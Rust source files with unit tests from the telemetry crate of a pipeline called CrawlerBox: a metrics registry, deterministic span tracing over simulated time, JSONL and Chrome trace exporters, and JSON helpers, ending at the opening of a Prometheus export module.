impl MetricsRegistry {
    /// An empty registry.
    pub fn new() -> Self {
        Self::default()
    }

    fn register(
        &self,
        name: &str,
        det: Determinism,
        make: impl FnOnce() -> Instrument,
    ) -> Instrument {
        let mut entries = self.entries.write().expect("metrics registry poisoned");
        let (_, instrument) = entries.entry(name.to_string()).or_insert_with(|| (det, make()));
        instrument.clone()
    }

    /// Get or create the counter `name`.
    pub fn counter(&self, name: &str, det: Determinism) -> CounterHandle {
        match self.register(name, det, || Instrument::Counter(CounterHandle::standalone())) {
            Instrument::Counter(h) => h,
            other => panic!("metric {name:?} already registered as a {}", other.kind()),
        }
    }

    /// Get or create the gauge `name`.
    pub fn gauge(&self, name: &str, det: Determinism) -> GaugeHandle {
        match self.register(name, det, || Instrument::Gauge(GaugeHandle::standalone())) {
            Instrument::Gauge(h) => h,
            other => panic!("metric {name:?} already registered as a {}", other.kind()),
        }
    }

    /// Get or create the histogram `name` with the given bucket bounds.
    pub fn histogram(&self, name: &str, det: Determinism, bounds: &[i64]) -> HistogramHandle {
        match self
            .register(name, det, || Instrument::Histogram(HistogramHandle::with_bounds(bounds)))
        {
            Instrument::Histogram(h) => h,
            other => panic!("metric {name:?} already registered as a {}", other.kind()),
        }
    }

    /// Capture every instrument's current value, in sorted name order.
    /// `Canonical` mode drops advisory instruments, exactly like
    /// [`export_json`](Self::export_json) — the snapshot is the input to
    /// the Prometheus renderer and can outlive any lock the registry's
    /// owner holds.
    pub fn snapshot(&self, mode: ExportMode) -> crate::prometheus::MetricsSnapshot {
        use crate::prometheus::{MetricValue, MetricsSnapshot};
        let entries = self.entries.read().expect("metrics registry poisoned");
        let keep = |det: &Determinism| mode == ExportMode::Full || *det == Determinism::Deterministic;
        MetricsSnapshot {
            entries: entries
                .iter()
                .filter(|(_, (det, _))| keep(det))
                .map(|(name, (_, instrument))| {
                    let value = match instrument {
                        Instrument::Counter(h) => MetricValue::Counter(h.get()),
                        Instrument::Gauge(h) => {
                            MetricValue::Gauge { level: h.level(), peak: h.peak() }
                        }
                        Instrument::Histogram(h) => MetricValue::Histogram {
                            bounds: h.bounds(),
                            buckets: h.bucket_counts(),
                            count: h.count(),
                            sum: h.sum(),
                        },
                    };
                    (name.clone(), value)
                })
                .collect(),
        }
    }

    /// Registered metric names, in export (sorted) order.
    pub fn names(&self) -> Vec<String> {
        self.entries.read().expect("metrics registry poisoned").keys().cloned().collect()
    }

    /// Export as JSON with deterministically ordered keys. `Canonical` mode
    /// drops advisory instruments entirely.
    pub fn export_json(&self, mode: ExportMode) -> String {
        let entries = self.entries.read().expect("metrics registry poisoned");
        let keep = |det: &Determinism| mode == ExportMode::Full || *det == Determinism::Deterministic;

        let mut out = String::from("{\n");
        let sections: [(&str, fn(&Instrument) -> bool); 3] = [
            ("counters", |i| matches!(i, Instrument::Counter(_))),
            ("gauges", |i| matches!(i, Instrument::Gauge(_))),
            ("histograms", |i| matches!(i, Instrument::Histogram(_))),
        ];
        for (si, (section, belongs)) in sections.iter().enumerate() {
            let _ = write!(out, "  \"{section}\": {{");
            let mut first = true;
            for (name, (_, instrument)) in
                entries.iter().filter(|(_, (det, i))| keep(det) && belongs(i))
            {
                if !first {
                    out.push(',');
                }
                first = false;
                out.push_str("\n    ");
                push_str_literal(&mut out, name);
                out.push_str(": ");
                match instrument {
                    Instrument::Counter(h) => {
                        let _ = write!(out, "{}", h.get());
                    }
                    Instrument::Gauge(h) => {
                        let _ =
                            write!(out, "{{\"level\": {}, \"peak\": {}}}", h.level(), h.peak());
                    }
                    Instrument::Histogram(h) => {
                        out.push_str("{\"bounds\": ");
                        push_int_array(&mut out, h.bounds());
                        out.push_str(", \"buckets\": ");
                        push_int_array(&mut out, h.bucket_counts().into_iter().map(|c| c as i64));
                        let _ = write!(out, ", \"count\": {}, \"sum\": {}}}", h.count(), h.sum());
                    }
                }
            }
            if !first {
                out.push_str("\n  ");
            }
            out.push('}');
            if si + 1 < sections.len() {
                out.push(',');
            }
            out.push('\n');
        }
        out.push_str("}\n");
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn counter_and_gauge_handles_share_state() {
        let reg = MetricsRegistry::new();
        let a = reg.counter("scan.messages", Determinism::Deterministic);
        let b = reg.counter("scan.messages", Determinism::Deterministic);
        a.add(2);
        b.incr();
        assert_eq!(a.get(), 3);

        let g = reg.gauge("stream.in_flight", Determinism::Advisory);
        assert_eq!(g.add(5), 5);
        g.sub(3);
        g.sub(10); // saturates at zero
        assert_eq!(g.level(), 0);
        assert_eq!(g.peak(), 5);
        g.note(9);
        assert_eq!(g.peak(), 9);
    }

    #[test]
    fn histogram_buckets_observations_with_overflow() {
        let h = HistogramHandle::with_bounds(&[1, 10, 100]);
        for v in [0, 1, 2, 10, 11, 1000] {
            h.observe(v);
        }
        assert_eq!(h.bucket_counts(), [2, 2, 1, 1]);
        assert_eq!(h.count(), 6);
        assert_eq!(h.sum(), 1024);
    }

    #[test]
    fn canonical_export_filters_advisory_and_sorts_keys() {
        let reg = MetricsRegistry::new();
        reg.counter("z.det", Determinism::Deterministic).add(1);
        reg.counter("a.det", Determinism::Deterministic).add(2);
        reg.counter("scheduler.steals", Determinism::Advisory).add(99);
        reg.histogram("visit.latency_s", Determinism::Deterministic, &[1, 5]).observe(3);

        let canonical = reg.export_json(ExportMode::Canonical);
        assert!(!canonical.contains("scheduler.steals"));
        assert!(canonical.find("\"a.det\"").unwrap() < canonical.find("\"z.det\"").unwrap());
        assert!(canonical
            .contains("\"visit.latency_s\": {\"bounds\": [1,5], \"buckets\": [0,1,0], \"count\": 1, \"sum\": 3}"));

        let full = reg.export_json(ExportMode::Full);
        assert!(full.contains("\"scheduler.steals\": 99"));
    }

    #[test]
    fn empty_registry_exports_stable_skeleton() {
        let reg = MetricsRegistry::new();
        assert_eq!(
            reg.export_json(ExportMode::Canonical),
            "{\n  \"counters\": {},\n  \"gauges\": {},\n  \"histograms\": {}\n}\n"
        );
        assert!(reg.names().is_empty());
    }

    #[test]
    #[should_panic(expected = "already registered")]
    fn kind_mismatch_panics() {
        let reg = MetricsRegistry::new();
        reg.counter("x", Determinism::Deterministic);
        reg.gauge("x", Determinism::Deterministic);
    }
}
