//! Span-based tracing over simulated time.
//!
//! A trace is built **per message**: a scan of one message never crosses
//! threads, so its events accumulate in plain thread-local state — the
//! lock-free per-worker buffer — and are pushed to the shared merge buffer
//! only once, when the scan finishes. The merged trace is then sorted by
//! `(message_id, stage)`: a deterministic order no matter which worker ran
//! which message or when it finished. (Determinism requires unique message
//! ids within one recording window; batches that clone a message id still
//! trace correctly but their merge order for the clones is unspecified.)
//!
//! Times are `i64` **sim-seconds** (the unit of `cb_sim::SimDuration`),
//! offsets from the start of each message's scan; instrumentation converts
//! with `SimDuration::as_seconds()` at the call site, which keeps this
//! crate dependency-free.
//!
//! Two field channels keep the determinism contract honest:
//!
//! * **`fields`** — data that is a pure function of `(seed, config)`:
//!   sim-time durations, URLs, outcomes, fault provenance, per-scan cache
//!   hits. These survive into *canonical* exports, which must be
//!   byte-identical across schedulers.
//! * **`advisory`** — data that depends on thread interleaving: the worker
//!   that ran the scan, shared-cache hit/miss, steal provenance. These only
//!   appear in *full* exports and are excluded from golden comparisons.

use std::cell::{Cell, RefCell};
use std::sync::{Arc, Mutex};

/// Ordered structured fields attached to an event.
pub type FieldList = Vec<(&'static str, String)>;

/// One event in a message trace. Times are sim-second offsets from the
/// start of the message's scan (each scan starts its own cursor at zero,
/// which is what keeps traces independent of batch position and scheduler).
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum TraceEvent {
    /// Span open.
    Begin {
        /// Span name (see DESIGN.md §10 for the taxonomy).
        name: &'static str,
        /// Sim-second offset of the open.
        at: i64,
        /// Deterministic fields.
        fields: FieldList,
        /// Interleaving-dependent fields (full exports only).
        advisory: FieldList,
    },
    /// Span close; pairs with the most recent unclosed `Begin`.
    End {
        /// Name of the span being closed.
        name: &'static str,
        /// Sim-second offset of the close.
        at: i64,
    },
    /// Point event inside the current span.
    Instant {
        /// Event name.
        name: &'static str,
        /// Sim-second offset.
        at: i64,
        /// Deterministic fields.
        fields: FieldList,
        /// Interleaving-dependent fields (full exports only).
        advisory: FieldList,
    },
}

impl TraceEvent {
    /// Event name.
    pub fn name(&self) -> &'static str {
        match self {
            TraceEvent::Begin { name, .. }
            | TraceEvent::End { name, .. }
            | TraceEvent::Instant { name, .. } => name,
        }
    }

    /// Sim-second offset from scan start.
    pub fn at(&self) -> i64 {
        match self {
            TraceEvent::Begin { at, .. }
            | TraceEvent::End { at, .. }
            | TraceEvent::Instant { at, .. } => *at,
        }
    }
}

/// All events recorded for one message during one stage.
///
/// `stage` separates the scan itself (0) from sink delivery (1): delivery
/// happens on the collector thread after the scan trace was already pushed,
/// so it becomes its own buffer entry that the deterministic sort files
/// directly after the scan events of the same message.
#[derive(Debug, Clone)]
pub struct MessageTrace {
    /// The scanned message's id.
    pub message_id: usize,
    /// 0 = scan spans, 1 = sink delivery.
    pub stage: u8,
    /// Events in recording order.
    pub events: Vec<TraceEvent>,
}

/// The in-progress trace of the message currently being scanned on this
/// thread. Instrumentation sites reach it through [`with_active`]; when no
/// trace is active (tracing off, or code running outside a scan) every site
/// is a cheap no-op.
#[derive(Debug)]
pub struct ActiveTrace {
    message_id: usize,
    cursor: i64,
    events: Vec<TraceEvent>,
    stack: Vec<&'static str>,
}

impl ActiveTrace {
    fn new(message_id: usize) -> Self {
        ActiveTrace { message_id, cursor: 0, events: Vec::new(), stack: Vec::new() }
    }

    /// Open a span with deterministic fields only.
    pub fn begin(&mut self, name: &'static str, fields: FieldList) {
        self.begin_adv(name, fields, Vec::new());
    }

    /// Open a span with deterministic and advisory fields.
    pub fn begin_adv(&mut self, name: &'static str, fields: FieldList, advisory: FieldList) {
        self.stack.push(name);
        self.events.push(TraceEvent::Begin { name, at: self.cursor, fields, advisory });
    }

    /// Close the innermost open span. A close without a matching open is a
    /// bug in the instrumentation, not in user input — panic loudly.
    pub fn end(&mut self) {
        let name = self.stack.pop().expect("telemetry: end() without matching begin()");
        self.events.push(TraceEvent::End { name, at: self.cursor });
    }

    /// Record a point event with deterministic fields only.
    pub fn instant(&mut self, name: &'static str, fields: FieldList) {
        self.instant_adv(name, fields, Vec::new());
    }

    /// Record a point event with deterministic and advisory fields.
    pub fn instant_adv(&mut self, name: &'static str, fields: FieldList, advisory: FieldList) {
        self.events.push(TraceEvent::Instant { name, at: self.cursor, fields, advisory });
    }

    /// Move the scan-local sim-time cursor forward by `seconds`.
    /// Instrumentation calls this wherever the pipeline accounts simulated
    /// time (visit latency, backoff waits); the cursor is what gives spans
    /// their extent. Negative amounts are ignored.
    pub fn advance(&mut self, seconds: i64) {
        if seconds > 0 {
            self.cursor += seconds;
        }
    }

    /// Current sim-second offset from scan start.
    pub fn elapsed(&self) -> i64 {
        self.cursor
    }

    /// Depth of currently open spans.
    pub fn depth(&self) -> usize {
        self.stack.len()
    }
}

thread_local! {
    static ACTIVE: RefCell<Option<ActiveTrace>> = const { RefCell::new(None) };
    static WORKER: Cell<Option<usize>> = const { Cell::new(None) };
}

/// Run `f` against the trace of the message currently being scanned on this
/// thread, if any. No-op (and near-free) when tracing is off.
pub fn with_active<F: FnOnce(&mut ActiveTrace)>(f: F) {
    ACTIVE.with(|a| {
        if let Some(t) = a.borrow_mut().as_mut() {
            f(t);
        }
    });
}

/// Tag this thread with a scheduler worker index. The index is attached to
/// each scan's root span as an *advisory* field — which worker ran a message
/// is exactly the kind of fact the determinism contract does not cover.
pub fn set_worker(w: Option<usize>) {
    WORKER.with(|c| c.set(w));
}

/// The worker index previously set via [`set_worker`], if any.
pub fn worker() -> Option<usize> {
    WORKER.with(|c| c.get())
}

/// Entry point for recording: hands out per-message guards and merges the
/// finished per-worker buffers into one deterministic trace.
///
/// Cloning is cheap and shares the underlying merge buffer, so a pipeline
/// can keep one `Tracer` and lend clones to worker threads. The merge
/// buffer is locked once per finished scan (never per event — events go to
/// the thread-local buffer), so contention is negligible.
#[derive(Debug, Clone)]
pub struct Tracer {
    enabled: bool,
    merged: Arc<Mutex<Vec<MessageTrace>>>,
}

impl Tracer {
    /// A tracer, recording iff `enabled`.
    pub fn new(enabled: bool) -> Self {
        Tracer { enabled, merged: Arc::new(Mutex::new(Vec::new())) }
    }

    /// Is recording on?
    pub fn enabled(&self) -> bool {
        self.enabled
    }

    /// Turn recording on or off (affects scans started afterwards).
    pub fn set_enabled(&mut self, enabled: bool) {
        self.enabled = enabled;
    }

    /// Start recording a message scan on the current thread. The returned
    /// guard must live for the duration of the scan; dropping it closes any
    /// spans left open (e.g. by a panic that was caught upstream) and
    /// pushes the finished trace to the merge buffer. Returns `None` when
    /// tracing is off.
    pub fn message(&self, message_id: usize) -> Option<ScanTraceGuard> {
        if !self.enabled {
            return None;
        }
        let mut trace = ActiveTrace::new(message_id);
        trace.begin_adv(
            "scan",
            Vec::new(),
            worker().map(|w| ("worker", w.to_string())).into_iter().collect(),
        );
        let prev = ACTIVE.with(|a| a.borrow_mut().replace(trace));
        Some(ScanTraceGuard { merged: Arc::clone(&self.merged), prev: Some(prev) })
    }

    /// Record a sink-delivery event for `message_id`. Delivery happens
    /// outside the scan (on the collector thread, after the scan trace was
    /// pushed), so it gets its own stage-1 entry.
    pub fn delivery(&self, message_id: usize, fields: FieldList) {
        if !self.enabled {
            return;
        }
        self.push(MessageTrace {
            message_id,
            stage: 1,
            events: vec![TraceEvent::Instant { name: "sink.deliver", at: 0, fields, advisory: Vec::new() }],
        });
    }

    fn push(&self, trace: MessageTrace) {
        self.merged.lock().expect("telemetry merge buffer poisoned").push(trace);
    }

    /// Drain everything recorded so far into a message-ordered [`Trace`].
    pub fn take(&self) -> Trace {
        let mut messages =
            std::mem::take(&mut *self.merged.lock().expect("telemetry merge buffer poisoned"));
        messages.sort_by_key(|t| (t.message_id, t.stage));
        Trace { messages }
    }
}

impl Default for Tracer {
    fn default() -> Self {
        Tracer::new(false)
    }
}

/// Guard installed for the duration of one message scan; see
/// [`Tracer::message`].
pub struct ScanTraceGuard {
    merged: Arc<Mutex<Vec<MessageTrace>>>,
    /// The thread's previous active trace (almost always `None`), restored
    /// on drop so nested recordings compose.
    prev: Option<Option<ActiveTrace>>,
}

impl Drop for ScanTraceGuard {
    fn drop(&mut self) {
        let taken = ACTIVE.with(|a| a.borrow_mut().take());
        if let Some(mut t) = taken {
            while t.depth() > 0 {
                t.end();
            }
            if let Ok(mut merged) = self.merged.lock() {
                merged.push(MessageTrace { message_id: t.message_id, stage: 0, events: t.events });
            }
        }
        if let Some(prev) = self.prev.take() {
            ACTIVE.with(|a| *a.borrow_mut() = prev);
        }
    }
}

/// A merged, message-ordered trace ready for export.
#[derive(Debug, Clone, Default)]
pub struct Trace {
    /// Per-message event groups, sorted by `(message_id, stage)`.
    pub messages: Vec<MessageTrace>,
}

impl Trace {
    /// True when nothing was recorded.
    pub fn is_empty(&self) -> bool {
        self.messages.is_empty()
    }

    /// Total number of events across all messages.
    pub fn event_count(&self) -> usize {
        self.messages.iter().map(|m| m.events.len()).sum()
    }

    /// Merge several traces (e.g. one per adaptive experiment cell, each
    /// drained from its own tracer) into one message-ordered trace. The
    /// result is re-sorted by `(message_id, stage)`, so the merge is
    /// independent of the order the parts were produced in — what keeps a
    /// fanned-out experiment's export byte-identical across schedulers.
    pub fn merge(parts: impl IntoIterator<Item = Trace>) -> Trace {
        let mut messages: Vec<MessageTrace> = parts.into_iter().flat_map(|t| t.messages).collect();
        messages.sort_by(|a, b| (a.message_id, a.stage).cmp(&(b.message_id, b.stage)));
        Trace { messages }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn disabled_tracer_records_nothing() {
        let tracer = Tracer::new(false);
        assert!(tracer.message(7).is_none());
        with_active(|t| t.instant("x", Vec::new()));
        tracer.delivery(7, Vec::new());
        assert!(tracer.take().is_empty());
    }

    #[test]
    fn guard_scopes_events_to_one_message_and_autocloses_spans() {
        let tracer = Tracer::new(true);
        {
            let _g = tracer.message(3).expect("enabled");
            with_active(|t| {
                t.begin("visit", vec![("url", "http://x/".into())]);
                t.advance(5);
                t.instant("net.fault", vec![("kind", "dns-timeout".into())]);
                // `visit` left open: the guard must close it (and the root).
            });
        }
        with_active(|t| t.instant("stray", Vec::new())); // no active trace: no-op
        let trace = tracer.take();
        assert_eq!(trace.messages.len(), 1);
        assert_eq!(trace.messages[0].message_id, 3);
        let events = &trace.messages[0].events;
        let names: Vec<&str> = events.iter().map(|e| e.name()).collect();
        assert_eq!(names, ["scan", "visit", "net.fault", "visit", "scan"]);
        assert_eq!(events.last().unwrap().at(), 5);
    }

    #[test]
    fn take_orders_by_message_id_then_stage_regardless_of_push_order() {
        let tracer = Tracer::new(true);
        tracer.delivery(2, Vec::new());
        tracer.delivery(1, Vec::new());
        drop(tracer.message(2).unwrap());
        drop(tracer.message(1).unwrap());
        let order: Vec<(usize, u8)> =
            tracer.take().messages.iter().map(|m| (m.message_id, m.stage)).collect();
        assert_eq!(order, [(1, 0), (1, 1), (2, 0), (2, 1)]);
    }

    #[test]
    fn worker_tag_lands_on_root_span_as_advisory() {
        let tracer = Tracer::new(true);
        set_worker(Some(4));
        drop(tracer.message(0).unwrap());
        set_worker(None);
        let trace = tracer.take();
        match &trace.messages[0].events[0] {
            TraceEvent::Begin { name, advisory, .. } => {
                assert_eq!(*name, "scan");
                assert_eq!(advisory, &vec![("worker", "4".to_string())]);
            }
            other => panic!("expected root Begin, got {other:?}"),
        }
    }

    #[test]
    fn nested_guard_restores_outer_trace() {
        let tracer = Tracer::new(true);
        let outer = tracer.message(10).unwrap();
        with_active(|t| t.instant("outer.a", Vec::new()));
        {
            let _inner = tracer.message(11).unwrap();
            with_active(|t| t.instant("inner", Vec::new()));
        }
        with_active(|t| t.instant("outer.b", Vec::new()));
        drop(outer);
        let trace = tracer.take();
        let ids: Vec<usize> = trace.messages.iter().map(|m| m.message_id).collect();
        assert_eq!(ids, [10, 11]);
        let outer_names: Vec<&str> = trace.messages[0].events.iter().map(|e| e.name()).collect();
        assert_eq!(outer_names, ["scan", "outer.a", "outer.b", "scan"]);
    }

    #[test]
    fn traces_pushed_from_worker_threads_merge_deterministically() {
        let tracer = Tracer::new(true);
        std::thread::scope(|s| {
            for w in 0..4usize {
                let tracer = tracer.clone();
                s.spawn(move || {
                    set_worker(Some(w));
                    for id in (w..16).step_by(4) {
                        let _g = tracer.message(id).unwrap();
                        with_active(|t| {
                            t.advance(id as i64);
                            t.instant("tick", vec![("id", id.to_string())]);
                        });
                    }
                });
            }
        });
        let ids: Vec<usize> = tracer.take().messages.iter().map(|m| m.message_id).collect();
        assert_eq!(ids, (0..16).collect::<Vec<_>>());
    }
}
