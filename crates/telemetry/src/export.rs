//! Trace exporters: JSONL event log and Chrome `trace_event` JSON.
//!
//! Both walk the message-ordered trace in a single deterministic pass, so a
//! canonical export is byte-identical for byte-identical traces. JSONL is
//! the grep-able archival format (one event per line, committed as golden
//! files); the Chrome format loads into `chrome://tracing` / Perfetto with
//! one track (`tid`) per message.

use crate::json::{push_field_array, push_field_object, push_str_literal};
use crate::trace::{Trace, TraceEvent};
use crate::ExportMode;
use std::fmt::Write;

impl Trace {
    /// Export as JSONL: one event per line, `t` in sim-seconds from the
    /// start of the message's scan, `seq` restarting per message. Canonical
    /// mode omits advisory fields so the output is byte-identical across
    /// schedulers.
    pub fn to_jsonl(&self, mode: ExportMode) -> String {
        let mut out = String::new();
        let mut seq = 0usize;
        let mut prev_msg = None;
        for m in &self.messages {
            if prev_msg != Some(m.message_id) {
                seq = 0;
                prev_msg = Some(m.message_id);
            }
            for e in &m.events {
                let _ = write!(out, "{{\"msg\":{},\"seq\":{seq},\"t\":{},", m.message_id, e.at());
                match e {
                    TraceEvent::Begin { name, fields, advisory, .. } => {
                        out.push_str("\"ph\":\"B\",\"name\":");
                        push_str_literal(&mut out, name);
                        out.push_str(",\"fields\":");
                        push_field_array(&mut out, fields);
                        if mode == ExportMode::Full && !advisory.is_empty() {
                            out.push_str(",\"adv\":");
                            push_field_array(&mut out, advisory);
                        }
                    }
                    TraceEvent::End { name, .. } => {
                        out.push_str("\"ph\":\"E\",\"name\":");
                        push_str_literal(&mut out, name);
                    }
                    TraceEvent::Instant { name, fields, advisory, .. } => {
                        out.push_str("\"ph\":\"I\",\"name\":");
                        push_str_literal(&mut out, name);
                        out.push_str(",\"fields\":");
                        push_field_array(&mut out, fields);
                        if mode == ExportMode::Full && !advisory.is_empty() {
                            out.push_str(",\"adv\":");
                            push_field_array(&mut out, advisory);
                        }
                    }
                }
                out.push_str("}\n");
                seq += 1;
            }
        }
        out
    }

    /// Export in Chrome `trace_event` format: sim-seconds become
    /// microseconds (`ts`), each message becomes its own thread track
    /// (`tid`), structured fields become `args`.
    pub fn to_chrome(&self, mode: ExportMode) -> String {
        let mut out = String::from("{\"displayTimeUnit\":\"ms\",\"traceEvents\":[");
        let mut first = true;
        for m in &self.messages {
            for e in &m.events {
                if !first {
                    out.push(',');
                }
                first = false;
                let ts = e.at() * 1_000_000;
                out.push_str("\n{\"name\":");
                push_str_literal(&mut out, e.name());
                match e {
                    TraceEvent::Begin { fields, advisory, .. } => {
                        let _ = write!(
                            out,
                            ",\"ph\":\"B\",\"pid\":1,\"tid\":{},\"ts\":{ts},\"args\":",
                            m.message_id
                        );
                        push_args(&mut out, fields, advisory, mode);
                    }
                    TraceEvent::End { .. } => {
                        let _ = write!(
                            out,
                            ",\"ph\":\"E\",\"pid\":1,\"tid\":{},\"ts\":{ts}",
                            m.message_id
                        );
                    }
                    TraceEvent::Instant { fields, advisory, .. } => {
                        let _ = write!(
                            out,
                            ",\"ph\":\"i\",\"s\":\"t\",\"pid\":1,\"tid\":{},\"ts\":{ts},\"args\":",
                            m.message_id
                        );
                        push_args(&mut out, fields, advisory, mode);
                    }
                }
                out.push('}');
            }
        }
        out.push_str("\n]}\n");
        out
    }
}

fn push_args(
    out: &mut String,
    fields: &[(&'static str, String)],
    advisory: &[(&'static str, String)],
    mode: ExportMode,
) {
    if mode == ExportMode::Full {
        push_field_object(out, &[fields, advisory]);
    } else {
        push_field_object(out, &[fields]);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::trace::Tracer;
    use crate::with_active;

    fn sample() -> Trace {
        let tracer = Tracer::new(true);
        crate::set_worker(Some(2));
        {
            let _g = tracer.message(1).unwrap();
            with_active(|t| {
                t.begin("visit", vec![("url", "http://a/".into())]);
                t.advance(3);
                t.instant_adv("screenshot", Vec::new(), vec![("cache", "hit".into())]);
                t.end();
            });
        }
        crate::set_worker(None);
        tracer.delivery(1, vec![("order", "0".into())]);
        tracer.take()
    }

    #[test]
    fn jsonl_canonical_strips_advisory_and_is_line_per_event() {
        let trace = sample();
        let canonical = trace.to_jsonl(ExportMode::Canonical);
        assert_eq!(canonical.lines().count(), trace.event_count());
        assert!(!canonical.contains("\"adv\""));
        assert!(!canonical.contains("worker"));
        assert!(canonical.contains("\"name\":\"sink.deliver\""));
        assert!(canonical.contains(
            r#"{"msg":1,"seq":1,"t":0,"ph":"B","name":"visit","fields":[["url","http://a/"]]}"#
        ));
        assert!(canonical.contains("\"t\":3"));

        let full = trace.to_jsonl(ExportMode::Full);
        assert!(full.contains(r#""adv":[["worker","2"]]"#));
        assert!(full.contains(r#""adv":[["cache","hit"]]"#));
    }

    #[test]
    fn jsonl_seq_restarts_per_message_and_spans_balance() {
        let tracer = Tracer::new(true);
        drop(tracer.message(0).unwrap());
        drop(tracer.message(5).unwrap());
        let jsonl = tracer.take().to_jsonl(ExportMode::Canonical);
        let lines: Vec<&str> = jsonl.lines().collect();
        assert_eq!(lines.len(), 4);
        assert!(lines[0].starts_with(r#"{"msg":0,"seq":0,"#));
        assert!(lines[1].starts_with(r#"{"msg":0,"seq":1,"#));
        assert!(lines[2].starts_with(r#"{"msg":5,"seq":0,"#));
        let begins = lines.iter().filter(|l| l.contains("\"ph\":\"B\"")).count();
        let ends = lines.iter().filter(|l| l.contains("\"ph\":\"E\"")).count();
        assert_eq!(begins, ends);
    }

    #[test]
    fn chrome_export_scales_to_microseconds_per_message_track() {
        let chrome = sample().to_chrome(ExportMode::Canonical);
        assert!(chrome.starts_with("{\"displayTimeUnit\":\"ms\",\"traceEvents\":["));
        assert!(chrome.ends_with("\n]}\n"));
        assert!(chrome.contains(r#""ph":"B","pid":1,"tid":1,"ts":0,"args":{"url":"http://a/"}"#));
        assert!(chrome.contains("\"ts\":3000000"));
        assert!(!chrome.contains("worker"));
        let full = sample().to_chrome(ExportMode::Full);
        assert!(full.contains(r#""args":{"worker":"2"}"#));
        assert!(full.contains(r#""args":{"cache":"hit"}"#));
    }

    #[test]
    fn identical_recordings_export_identical_bytes() {
        let a = sample();
        let b = sample();
        assert_eq!(a.to_jsonl(ExportMode::Canonical), b.to_jsonl(ExportMode::Canonical));
        assert_eq!(a.to_chrome(ExportMode::Canonical), b.to_chrome(ExportMode::Canonical));
    }
}
