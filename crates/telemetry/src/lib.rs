#![warn(missing_docs)]

//! # cb-telemetry
//!
//! Deterministic telemetry for the CrawlerBox pipeline: a span-based tracer
//! over simulated time plus a metrics registry of named counters, gauges
//! and fixed-bucket histograms (DESIGN.md §10).
//!
//! The design constraint that shapes everything here is the pipeline's
//! determinism contract: the same seed and configuration must produce
//! byte-identical scan records across the serial, static-chunk and
//! work-stealing schedulers. Telemetry therefore separates what it records
//! into two classes:
//!
//! * **deterministic** — sim-time span extents, URLs, outcomes, fault
//!   provenance, per-scan cache traffic; exported in *canonical* mode,
//!   which must itself be byte-identical across schedulers (this is a
//!   tier-1 test);
//! * **advisory** — worker indices, shared-cache hit/miss, steal counts,
//!   residency peaks; real observability data, but interleaving-dependent,
//!   so it only appears in *full* exports.
//!
//! Recording is scan-local: each message's events accumulate in a
//! thread-local buffer ([`with_active`] is a no-op outside a scan or with
//! tracing off — no locks on the per-event hot path) and are pushed to the
//! shared merge buffer once per scan, then merged into message order by
//! [`Tracer::take`]. Timestamps are `i64` sim-seconds (the unit of
//! `cb_sim::SimDuration`); instrumentation converts with
//! `SimDuration::as_seconds()` at the call site, which keeps this crate
//! dependency-free.

mod export;
mod json;
mod metrics;
pub mod prometheus;
mod trace;

pub use metrics::{CounterHandle, Determinism, GaugeHandle, HistogramHandle, MetricsRegistry};
pub use prometheus::{render_prometheus, MetricValue, MetricsSnapshot};
pub use trace::{
    set_worker, with_active, worker, ActiveTrace, FieldList, MessageTrace, ScanTraceGuard, Trace,
    TraceEvent, Tracer,
};

/// Which instruments and fields an export includes.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ExportMode {
    /// Deterministic data only: byte-identical across schedulers for the
    /// same seed and config. Used by golden files and property tests.
    Canonical,
    /// Everything, including interleaving-dependent advisory data.
    Full,
}
