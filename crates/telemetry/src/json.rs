//! Minimal JSON emission helpers.
//!
//! The exporters hand-roll their JSON so that byte layout is fully under
//! this crate's control (the determinism contract is *byte* identity, so
//! the serializer's formatting choices are part of the contract). Only
//! emission is needed here — consumers parse with a real JSON parser.

use std::fmt::Write;

/// Append `s` as a JSON string literal (with quotes) to `out`.
pub fn push_str_literal(out: &mut String, s: &str) {
    out.push('"');
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if (c as u32) < 0x20 => {
                let _ = write!(out, "\\u{:04x}", c as u32);
            }
            c => out.push(c),
        }
    }
    out.push('"');
}

/// Append `[["k","v"],...]` for a field list.
pub fn push_field_array(out: &mut String, fields: &[(&'static str, String)]) {
    out.push('[');
    for (i, (k, v)) in fields.iter().enumerate() {
        if i > 0 {
            out.push(',');
        }
        out.push('[');
        push_str_literal(out, k);
        out.push(',');
        push_str_literal(out, v);
        out.push(']');
    }
    out.push(']');
}

/// Append `{"k":"v",...}` merging one or more field lists (Chrome `args`
/// objects).
pub fn push_field_object(out: &mut String, groups: &[&[(&'static str, String)]]) {
    out.push('{');
    let mut first = true;
    for fields in groups {
        for (k, v) in fields.iter() {
            if !first {
                out.push(',');
            }
            first = false;
            push_str_literal(out, k);
            out.push(':');
            push_str_literal(out, v);
        }
    }
    out.push('}');
}

/// Append a JSON array of integers.
pub fn push_int_array<I: IntoIterator<Item = i64>>(out: &mut String, values: I) {
    out.push('[');
    for (i, v) in values.into_iter().enumerate() {
        if i > 0 {
            out.push(',');
        }
        let _ = write!(out, "{v}");
    }
    out.push(']');
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn string_literals_escape_quotes_backslashes_and_controls() {
        let mut out = String::new();
        push_str_literal(&mut out, "a\"b\\c\nd\te\u{1}f");
        assert_eq!(out, r#""a\"b\\c\nd\te\u0001f""#);
    }

    #[test]
    fn field_array_and_object_shapes() {
        let fields = vec![("url", "http://x/?a=1".to_string()), ("kind", "dns".to_string())];
        let mut arr = String::new();
        push_field_array(&mut arr, &fields);
        assert_eq!(arr, r#"[["url","http://x/?a=1"],["kind","dns"]]"#);

        let extra = vec![("worker", "3".to_string())];
        let mut obj = String::new();
        push_field_object(&mut obj, &[&fields, &extra]);
        assert_eq!(obj, r#"{"url":"http://x/?a=1","kind":"dns","worker":"3"}"#);

        let mut ints = String::new();
        push_int_array(&mut ints, [1i64, -2, 30]);
        assert_eq!(ints, "[1,-2,30]");
    }
}
