//! Prometheus text-format export of the metrics registry (DESIGN.md §15).
//!
//! The daemon's `/metrics` endpoint serves several registries at once —
//! the daemon's own instruments plus one registry per store partition —
//! so the exporter works in two stages:
//!
//! 1. [`MetricsRegistry::snapshot`] captures every instrument's value
